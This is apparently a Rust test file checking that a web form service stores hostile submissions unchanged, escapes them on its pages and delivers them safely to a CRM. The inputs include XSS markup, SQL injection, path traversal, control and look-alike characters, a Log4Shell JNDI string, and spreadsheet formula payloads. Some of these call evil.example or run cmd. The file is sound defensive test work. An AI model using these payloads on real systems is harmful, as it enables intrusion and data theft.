//! Hostile values: markup, formulas, control characters and look-alike letters. They arrive unchanged and have no effect:
//! pages escape them, and no machine acts on them.

use fakes::salesmap::Salesmap;
use serde_json::{Value, json};

use super::{accepted, lives_on, pairs};
use crate::intake::{FORM, JSON, contact, world};
use crate::page::{form_of, main_of};
use crate::world::{World, quick};

const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title></style></main><h1>ours</h1>",
    "<!-- --><base href=//evil.example>",
    "javascript:alert(1)",
    "&lt;b&gt; &#60;script&#62; &amp;",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} %s %n",
    "' OR 1=1; DROP TABLE submissions; --",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
];

fn encoded(pairs: &[(String, String)]) -> String {
    form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish()
}

/// Each piece of markup as a name and as a value, one line and several.
fn everywhere() -> Vec<(String, String)> {
    let field = |(at, text): (usize, &&str)| {
        [(format!("{at}{text}"), (*text).to_owned()), (format!("lines{at}"), format!("\n{text}\n{text}"))]
    };
    MARKUP.iter().enumerate().flat_map(field).collect()
}

#[test]
fn markup_stays_text_on_the_error_page() {
    let world = world(&json!({ "FORM_CONTACT": { "required": ["email"] } }));
    let fields = everywhere();
    for language in ["en", "ko"] {
        let headers = [("accept", crate::intake::BROWSER), ("content-type", FORM), ("accept-language", language)];
        let page = world.send("POST", "/f/contact", &headers, encoded(&fields).as_bytes());
        assert_eq!(page.status, 422);
        // Nothing but our own tags, and a policy under which no script would run.
        let main = main_of(&page);
        let ours = [
            "h1",
            "/h1",
            "div",
            "/div",
            "p",
            "/p",
            "form",
            "/form",
            "label",
            "/label",
            "input",
            "textarea",
            "/textarea",
            "button",
            "/button",
            "ul",
            "/ul",
            "li",
            "/li",
            "span",
            "/span",
            "a",
            "/a",
            "svg",
            "/svg",
            "path",
        ];
        for tag in main.split('<').skip(1) {
            let name = tag.split([' ', '>', '\n']).next().unwrap_or_default();
            assert!(ours.contains(&name), "<{name} in {main}");
        }
        let policy = page.header("content-security-policy").expect("a policy");
        assert!(policy.starts_with("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        let form = form_of(&page).expect("a form to send again");
        let kept: Vec<_> = form.fields.iter().filter(|(name, _)| name != "email" && !name.starts_with('_')).collect();
        assert_eq!(kept, fields.iter().collect::<Vec<_>>());
    }
    assert_eq!(world.stored("contact"), [Value::Null; 0]);
    lives_on(&world, "contact");
}

#[test]
fn markup_arrives_as_it_was_sent_and_escaped_where_it_is_shown() {
    let world = contact();
    let fields = everywhere();
    let stored = accepted(&world, "markup", FORM, encoded(&fields).as_bytes());
    assert_eq!(stored, json!(fields));

    let token = "salesmap-token-1";
    let vars = json!({
        // It looks like spam; a release delivers it.
        "FORM_CONTACT": { "destinations": ["salesmap"], "spam": "off" },
        "DESTINATION_SALESMAP": quick(json!({ "type": "salesmap" })),
    });
    let world = World::new(&vars, &[("SALESMAP_TOKEN", token)], vec![Box::new(Salesmap::new(token))]);
    for text in MARKUP {
        let fields = [("message", *text), ("a <i>b</i>", text), ("email", "a@example.com")];
        let fields = fields.map(|(name, value)| (name.to_owned(), value.to_owned()));
        let id = world.submit("contact", &encoded(&fields));
        world.delivered("contact", &id);
    }
    let memos: Vec<_> = world
        .requests("salesmap")
        .iter()
        .filter_map(|request| Some(request["body"]["memo"].as_str()?.to_owned()))
        .collect();
    assert_eq!(memos.len(), MARKUP.len());
    for memo in memos {
        assert!(!memo.contains(['<', '>']), "{memo}");
        assert!(memo.contains("a &lt;i&gt;b&lt;/i&gt;"), "{memo}");
    }
    assert_eq!(world.fakes.complaints("salesmap"), [] as [String; 0]);
}

/// See `docs/decisions.md`: JSON has no formulas, and a phone number would keep the `'`.
#[test]
fn formulas_and_telephone_numbers_arrive_as_they_were_sent() {
    let world = contact();
    let rows = [
        ("phone", "+82 10-1234-5678"),
        ("balance", "-1,000"),
        ("handle", "@ada"),
        ("a", "=cmd|' /C calc'!A0"),
        ("b", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")"),
        ("c", "+1+cmd|' /C calc'!A0"),
        ("d", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("e", "\t=1+1"),
        ("f", "\r=1+1"),
        ("g", "\n=1+1"),
        ("h", ";=1+1"),
        ("i", "|=1+1"),
        ("j", "\u{ff1d}1+1"),
    ];
    let fields = rows.map(|(name, value)| (name.to_owned(), value.to_owned()));
    assert_eq!(accepted(&world, "formulas", FORM, encoded(&fields).as_bytes()), pairs(&rows));
    let data = &world.fakes.records("webhook")[0]["data"];
    assert_eq!((&data["lead"]["phone"], &data["unmapped"]["balance"]), (&json!("+82 10-1234-5678"), &json!("-1,000")));
    assert_eq!((&data["unmapped"]["a"], &data["unmapped"]["e"]), (&json!(rows[3].1), &json!("=1+1")));
}

#[test]
fn control_characters_and_disguises() {
    let world = contact();
    let every: String = (0_u8..=0x1f).chain([0x7f]).map(char::from).collect();
    let sent = [
        ("message", format!("a{every}b")),
        ("na\u{200b}me", "zero\u{200b}width\u{2060}\u{feff}".to_owned()),
        ("\u{202e}liame", "\u{202e}moc.elpmaxe@ada\u{202c}".to_owned()),
        ("ｅｍａｉｌ", "ａｄａ＠ｅｘａｍｐｌｅ．ｃｏｍ".to_owned()),
        ("zalgo", format!("Z{}", "\u{301}".repeat(2000))),
        ("tags", "\u{e0041}\u{e0042}\u{fffe}\u{10ffff}".to_owned()),
        ("separators", "a\u{2028}b\u{2029}c\u{85}d".to_owned()),
        ("family", "👨‍👩‍👧‍👦🏳️‍🌈".to_owned()),
        ("esc\u{1b}[31m", "\u{1b}]0;title\u{7}".to_owned()),
    ];
    // NUL and invisible characters go, other control characters become visible, and accents are composed.
    let is_unwanted = |c: char| c.is_ascii_control() && !"\t\r\n".contains(c);
    let kept = |text: &str| text.replace('\0', "").replace(is_unwanted, "\u{fffd}");
    let stored = json!([
        ["message", kept(&sent[0].1)],
        ["name", "zerowidth"],
        ["liame", "moc.elpmaxe@ada"],
        ["ｅｍａｉｌ", "ａｄａ＠ｅｘａｍｐｌｅ．ｃｏｍ"],
        ["zalgo", format!("\u{179}{}", "\u{301}".repeat(1999))],
        ["tags", "\u{fffe}\u{10ffff}"],
        ["separators", sent[6].1],
        ["family", "👨👩👧👦🏳\u{fe0f}🌈"],
        ["esc\u{fffd}[31m", "\u{fffd}]0;title\u{fffd}"],
    ]);
    let body = encoded(&sent.clone().map(|(name, value)| (name.to_owned(), value)));
    assert_eq!(accepted(&world, "a form", FORM, body.as_bytes()), stored);
    let object: serde_json::Map<_, _> = sent.iter().map(|(name, value)| ((*name).to_owned(), json!(value))).collect();
    assert_eq!(accepted(&world, "JSON", JSON, json!(object).to_string().as_bytes()), stored);

    // The lead has Unix line ends and no control characters.
    let data = &world.fakes.records("webhook")[0]["data"];
    let visible = "\u{fffd}";
    let message = format!("a{}\t\n{}\n{}b", visible.repeat(8), visible.repeat(2), visible.repeat(19));
    assert_eq!(data["lead"]["message"], json!(message));
    assert_eq!(data["unmapped"]["separators"], json!("a\u{2028}b\u{2029}c\u{fffd}d"));
    // A look-alike name is not recognized as the email.
    assert_eq!((&data["lead"]["name"], &data["lead"]["email"]), (&json!("zerowidth"), &Value::Null));

    // Invalid UTF-8 and half characters.
    let stored = accepted(&world, "no text", FORM, b"a=\xFF\xFE\xC0\xAF\xED\xA0\x80&b=%C0%AF%ED%A0%80&c=%F4%90%80%80x");
    let all = stored.to_string();
    assert!(!all.contains('/') && all.contains('\u{fffd}'), "{all}");
    let stored =
        accepted(&world, "halves", JSON, br#"{"a":"\ud800","b":"\udc00\ud800","c":"\udbff\udfff","\ud800":"d"}"#);
    assert_eq!((stored.as_array().map(Vec::len), &stored[2]), (Some(4), &json!(["c", "\u{10ffff}"])));
    lives_on(&world, "contact");
}
